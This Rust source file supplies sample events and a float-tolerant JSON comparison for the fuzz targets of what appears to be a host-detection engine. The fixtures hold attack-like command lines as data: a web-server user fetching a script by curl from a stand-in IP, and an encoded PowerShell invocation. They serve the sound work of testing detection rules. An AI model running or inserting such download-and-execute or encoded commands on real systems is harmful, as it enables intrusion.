//! Shared by the fuzz targets: a few events to evaluate compiled rules and patterns on.
use outpost_core::Event;

const EVENTS: &str = r#"[
 {"ts": "2026-12-01T10:00:00Z", "kind": "process_exec", "source": "proc_connector",
  "process": {"pid": 77, "name": "curl", "exe": "/usr/bin/curl", "cwd": "/tmp/x",
              "cmdline": "curl -s http://203.0.113.9/x.sh", "user": "www-data", "uid": 33}},
 {"ts": "2026-12-01T10:00:01Z", "kind": "network", "source": "audit",
  "process": {"pid": 77, "name": "curl", "exe": "/usr/bin/curl", "cwd": "/tmp/x"},
  "network": {"protocol": "tcp", "remote_ip": "203.0.113.9", "remote_port": 80,
              "local_ip": "10.0.0.5", "local_port": 50000}},
 {"ts": "2026-12-01T10:00:02Z", "kind": "process_exec", "source": "evtx",
  "process": {"pid": 4242, "name": "powershell.exe",
              "exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "cmdline": "powershell.exe -enc SQBFAFgA"},
  "log": {"channel": "Security", "provider": "Microsoft-Windows-Security-Auditing",
          "event_id": 4688, "fields": {"NewProcessName": "powershell.exe"}}}
]"#;

/// Sample events (an exec, a connection, a Windows log exec). Fields the `Event` type does not
/// know are ignored, so the list stays valid as the type grows.
pub fn sample_events() -> Vec<Event> {
    let v: serde_json::Value = serde_json::from_str(EVENTS).unwrap_or_default();
    v.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|e| serde_json::from_value(e.clone()).ok())
                .collect()
        })
        .unwrap_or_default()
}

/// JSON equality where two floats count as equal when they are within a few ulps: serde_json
/// (without its `float_roundtrip` feature, which Outpost does not enable) documents that it
/// parses floats with best-effort precision, so a number can move by an ulp through
/// print-and-parse. Everything else must be exactly equal.
pub fn same_json(a: &serde_json::Value, b: &serde_json::Value) -> bool {
    use serde_json::Value;
    match (a, b) {
        (Value::Number(x), Value::Number(y)) => {
            if x == y {
                return true;
            }
            match (x.as_f64(), y.as_f64()) {
                (Some(x), Some(y)) if x.is_finite() && y.is_finite() => {
                    (x - y).abs() <= 8.0 * f64::EPSILON * x.abs().max(y.abs())
                }
                _ => false,
            }
        }
        (Value::Array(x), Value::Array(y)) => {
            x.len() == y.len() && x.iter().zip(y).all(|(x, y)| same_json(x, y))
        }
        (Value::Object(x), Value::Object(y)) => {
            x.len() == y.len()
                && x.iter()
                    .all(|(k, v)| y.get(k).is_some_and(|w| same_json(v, w)))
        }
        _ => a == b,
    }
}
